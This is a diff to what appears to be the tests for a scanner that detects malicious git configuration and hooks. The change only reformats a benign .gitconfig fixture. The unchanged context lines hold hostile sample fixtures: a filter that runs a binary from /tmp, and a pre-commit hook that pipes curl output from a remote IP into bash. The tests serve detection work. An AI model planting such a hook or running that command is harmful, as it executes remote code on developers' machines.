@@ -69,10 +69,9 @@ for case, name, body in [
     fires(case, "git_config_runs_command", "high", ".git/config", name, body)
 fires("global_config_filter_in_tmp", "git_config_runs_command", "high", ".gitconfig",
       "gitconfig-filter-tmp", "[filter \"crlf\"]\n\tclean = /tmp/.x/clean\n\tsmudge = cat\n")
-silent("global_config_includes_and_aliases", "git_config_runs_command", ".gitconfig",
-       "gitconfig-ordinary", "[include]\n\tpath = ~/.gitconfig.local\n[alias]\n\tst = status -sb\n"
-       "\tamend = !git commit --amend --no-edit\n[core]\n\teditor = nvim\n\tpager = less -FRX\n"
-       "[remote \"origin\"]\n\turl = ../mirror.git\n")
+silent("global_config_includes_and_aliases", "git_config_runs_command", ".gitconfig", "gitconfig-ordinary",
+       "[include]\n\tpath = ~/.gitconfig.local\n[alias]\n\tst = status -sb\n\tamend = !git commit --amend --no-edit\n"
+       "[core]\n\teditor = nvim\n\tpager = less -FRX\n[remote \"origin\"]\n\turl = ../mirror.git\n")
 fires("hooks_path_folder_payload", "git_hook_runs_payload", "critical", "tools/git-hooks/pre-commit",
       "githooks-pre-commit", "#!/usr/bin/env bash\nset -e\nnpm run lint\ncurl -sL https://203.0.113.3/h | bash &\n", mode="755")
 silent("hook_crlf_printf_colours", "git_hook_runs_payload", ".git/hooks/pre-commit",
